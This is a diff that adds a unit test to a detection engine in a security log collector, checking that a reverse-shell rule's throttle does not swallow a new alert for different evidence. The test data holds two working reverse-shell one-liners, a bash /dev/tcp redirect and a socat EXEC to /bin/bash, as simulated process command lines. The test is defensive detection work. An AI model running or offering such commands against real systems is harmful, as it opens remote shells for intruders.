@@ -316,3 +316,31 @@ def test_alerts_carry_the_evidence_in_ecs_fields() -> None:
     assert alert["file"] == {"path": "/etc/passwd"}
     assert alert["destination"] == {"ip": "203.0.113.5", "port": 4444}
     assert "process.parent.executable" not in alert["process"]  # nested, never a dotted key
+
+
+def test_a_different_entity_is_never_folded_into_an_open_alert() -> None:
+    """Issue 15 finding: a root reverse shell was suppressed because the rule had fired
+    10 s earlier on an unrelated process and its (rule, host, user) throttle was open."""
+    from collector.detect.engine import Engine, EngineLimits
+    from collector.detect.loader import BUILTIN_DIR, load_file
+
+    (lr,) = load_file(BUILTIN_DIR / "host" / "reverse_shell.yml")
+    engine = Engine([lr.rule], EngineLimits(throttle=600.0))
+
+    def start(cmd: str, n: int) -> dict:
+        return {"@timestamp": "2026-11-23T10:00:00Z", "host": {"hostname": "web-01"},
+                "event": {"dataset": "process", "id": f"p{n}", "type": ["start"]},
+                "user": {"name": "root"}, "process": {"command_line": cmd, "pid": 100 + n}}
+
+    first = engine.process([start("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", 1)])
+    assert len(first) == 1
+    same = engine.process([start("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", 2)])
+    assert same == []  # the same evidence again: folded, counted
+    other = engine.process([start("socat TCP:198.51.100.9:9001 EXEC:/bin/bash", 3)])
+    assert len(other) == 1  # new evidence: escalated at once
+    (update,) = other
+    assert update["canhgac"]["alert"]["update_of"] == first[0]["event"]["id"]
+    assert update["canhgac"]["alert"]["new_evidence"] == {
+        "process.command_line": "socat TCP:198.51.100.9:9001 EXEC:/bin/bash"}
+    assert "new evidence process.command_line=socat TCP:198.51.100.9:9001 EXEC:/bin/bash" in update["message"]
+    assert update["process"]["pid"] == 103
